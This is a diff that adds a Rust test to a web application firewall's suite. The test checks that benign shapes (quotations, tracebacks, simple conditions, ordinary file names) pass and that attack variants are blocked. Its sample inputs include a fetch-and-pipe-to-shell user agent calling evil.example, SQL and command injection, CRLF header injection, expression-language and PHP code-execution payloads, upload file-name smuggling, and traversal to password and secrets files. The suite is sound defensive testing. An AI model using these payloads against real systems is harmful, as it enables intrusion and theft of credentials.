@@ -3157,6 +3157,145 @@ fn holdout30_shapes_pass_and_their_attacks_still_score() {
     }
 }
 
+#[test]
+fn holdout32_shapes_pass_and_their_attacks_still_score() {
+    // Holdout32 (a set written blind): five general shapes that blocked at PL1 untouched, each
+    // as a JSON field and as a query argument (the upload as multipart, the condition as XML, the
+    // traceback beside its runtime's user agent), next to attacks written around the relaxed
+    // shape, which must block.
+    let waf = waf_with("{}");
+    let both = |v: &str| as_field_and_query(&waf, v);
+    for v in [
+        // 4208: an attribution after a quotation closed on its line, in prose.
+        "Hi all,\n\nHW4 is out Friday; it uses git, so check your setup before then.\n\n> \"Premature optimization is the root of all evil\" -- Knuth. Please stop micro-optimising HW3 :)\n\n-- Dami",
+        "As the docs put it, \"never trust the client\" -- which is why we validate twice on the server side.",
+        // 1006: a block of bare labels on line feeds (a prompt's stop sequence, an empty form).
+        "\nQuestion:",
+        "Form\nName:\nDate:\nSignature:",
+        // 3305: an expression-language condition that only compares names and numbers.
+        "${amount > 500}",
+        "${order.total >= 100 && approved}",
+        "${status != 3}",
+        // 3000: a `;` in text that runs over lines drops no later line from the path view.
+        "@startuml\nW --> User: 302 Location: /dashboard\\nSet-Cookie: sid=...; HttpOnly\nnote right of A: bcrypt cost 12\\n~250 ms\n@enduml",
+    ] {
+        for o in both(v) {
+            assert!(!o.blocked, "{v}: {o:?}");
+        }
+    }
+    assert!(context::el_conditions(b"${amount > 500}"));
+    assert!(!context::el_conditions(b"${amount > 500} $f('id')"));
+    assert!(!context::el_conditions(b"${a > system('id')}"));
+    let traceback = "Traceback (most recent call last):\n  File \"/autograder/tests/test_hw3.py\", line 41, in test_flatten_nested\n    self.assertEqual(flatten([1, [2, [3, []]]]), [1, 2, 3])\nAssertionError: Lists differ";
+    assert!(context::traceback_frames(traceback.to_ascii_lowercase().as_bytes()));
+    assert!(!context::traceback_frames(b"traceback (most recent call last): file(\"/etc/passwd\")"));
+    // The traceback in a JSON body, sent by an agent naming its runtime after a `;`.
+    let with_agent = |ua: &str, body: &str| {
+        let mut r = Request::from_headers(vec![
+            (":method".into(), b"POST".to_vec()),
+            (":path".into(), b"/api/v1/autograder/results".to_vec()),
+            (":authority".into(), b"api.example.com".to_vec()),
+            ("user-agent".into(), ua.as_bytes().to_vec()),
+            ("content-type".into(), b"application/json".to_vec()),
+        ]);
+        r.push_header("content-length", body.len().to_string().as_bytes());
+        let mut s = waf.inspect_head(&r);
+        waf.inspect_body(&mut s, b"application/json", body.as_bytes());
+        waf.outcome(&s)
+    };
+    let results = serde_json::json!({ "tests": [{ "status": "failed", "output": traceback }] }).to_string();
+    let o = with_agent("markwell-autograder/3.1.0 (docker; python 3.12)", &results);
+    assert!(!o.blocked, "{o:?}");
+    for ua in [
+        "markwell-autograder/3.1.0 (docker; python 3.12); cat /etc/passwd",
+        "markwell/3.1 (docker; curl http://evil.example/x | sh)",
+        "Mozilla/5.0 (x; id)",
+    ] {
+        let o = with_agent(ua, &results);
+        assert!(o.blocked, "{ua}: {o:?}");
+    }
+    // 1011: an apostrophe that ends a word and an `&` between spaces in a file name.
+    let upload = |file: &str| {
+        let body = format!("--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{file}\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7 x\r\n--B--\r\n");
+        post("/upload", "multipart/form-data; boundary=B", &body, &waf)
+    };
+    for file in
+        ["NC Residential Property & Owners' Association Disclosure (REC 4.22).pdf", "Smith & Sons' Invoice 2231.pdf"]
+    {
+        let o = upload(file);
+        assert!(!o.blocked, "{file}: {o:?}");
+    }
+    for file in [
+        "x.php'; filename='y.jpg",
+        "'shell.php'",
+        "shell.php&x=.jpg",
+        "shell.php%00.jpg",
+        "shell&#46;php",
+        "a' or '1'='1.pdf",
+        "owner's.php",
+        "report & whoami & x.pdf",
+        "te'st.txt",
+        "Don't Stop.mp3",
+    ] {
+        let o = upload(file);
+        assert!(o.blocked, "{file}: {o:?}");
+    }
+    let bpmn = |cond: &str| {
+        let body = format!("<?xml version=\"1.0\"?><c>{cond}</c>");
+        post("/render", "application/xml", &body, &waf)
+    };
+    let o = bpmn("${amount &gt; 500}");
+    assert!(!o.blocked, "{o:?}");
+    for cond in ["${amount &gt; system('id')}", "${''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}"]
+    {
+        let o = bpmn(cond);
+        assert!(o.blocked, "{cond}: {o:?}");
+    }
+    for q in [
+        // 3301 in a traceback: a PHP call beside the frames.
+        "Traceback (most recent call last):\n  File \"x.py\", line 1, in m\n<?php file_get_contents(\"/etc/passwd\"); ?>",
+        "Traceback (most recent call last):\n  File \"a.py\", line 1, in x\nfile_put_contents('s.php', $_GET[0])",
+        "Traceback (most recent call last): file(\"/etc/passwd\")",
+        // 4208: a quote the value closes without opening it, or quotes that do not pair.
+        "admin\" -- ",
+        "x\" or \"1\"=\"1\" -- and then some more words to read like a sentence here",
+        "I think \"this works\" and admin\" -- the rest of the sentence goes here ok fine",
+        "Premature optimization is the root of all evil\" -- Knuth. Please stop micro-optimising HW3 now",
+        "x' or 1=1 or \"a\" -- and some more words making this read like prose text",
+        // 1006: a header with a value, a CR, an HTTP line.
+        "x\r\nSet-Cookie: sid=evil",
+        "x\nSet-Cookie: a=b",
+        "\nQuestion:\nSet-Cookie: sid=1",
+        "x\r\nLocation: http://evil.example/",
+        "x\r\nX-Forwarded-For:",
+        "x\r\nTransfer-Encoding:\r\n",
+        "x\r\nContent-Length:\r\n\r\nHTTP/1.1 200 OK",
+        // 3305: a condition with a call, a quote or a `$` call beside it.
+        "${system('id')}",
+        "${amount > system('id')}",
+        "${'_GET'}",
+        "${amount > 500} $f('id')",
+        "${amount > 500};system('id')",
+        "${a > 1}${f}(1)",
+        "${a > `id`}",
+        "${__import__('os').system('id')}",
+        // 3000: parameters on one line, traversal after a line break.
+        "..;/..;/etc/passwd",
+        "/app/..;jsessionid=x/..;x/WEB-INF/web.xml",
+        "..;x\n/../../etc/shadow",
+        "..;\n/..;\n/app/config/secrets.yml",
+        "..;%0a/..;%0a/admin",
+        "..; /..; /admin",
+        "Set-Cookie: sid=...; HttpOnly\n../../../etc/passwd",
+    ] {
+        for o in both(q) {
+            assert!(o.blocked, "{q}: {o:?}");
+        }
+    }
+    // A path parameter holding a line break in the request target: CR/LF in the path.
+    assert!(outcome(&waf, "/api/..;%0a/..;%0a/admin").blocked);
+}
+
 /// The first form of `context::template_parent_paths` (holdout16's round): for each `..` it
 /// rescanned the value before and after it, quadratic in the value's length (a 100 KB value of
 /// `{{ ../a ../a …` took 1.4 s natively). Kept here as the reference the one-pass form must agree
